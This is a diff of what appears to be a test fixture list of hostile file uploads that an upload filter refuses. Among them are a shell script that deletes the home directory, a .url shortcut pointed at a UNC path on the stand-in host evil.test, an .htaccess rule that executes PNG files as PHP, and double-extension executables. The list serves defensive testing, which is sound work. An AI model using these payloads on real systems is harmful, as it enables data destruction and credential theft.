@@ -103,7 +103,7 @@ export const REFUSED: Hostile[] = [
   ['commands of a shell', 'x.sh', '#!/bin/sh\nrm -rf ~'],
   ['a Visual Basic script', 'x.vbs', 'CreateObject("WScript.Shell")'],
   ['an application of pages', 'x.hta', html],
-  ['an address to open', 'x.url', '[InternetShortcut]\nURL=file://evil.test/x'],
+  ['an address to open', 'x.url', '[InternetShortcut]\nURL=\\\\evil.test\\x'],
   ['settings of a server', '.htaccess', 'AddType application/x-httpd-php .png'],
   ['a program under two endings', 'facture.pdf.exe', 'MZ'],
   ['a page under two endings', 'photo.png.html', html],
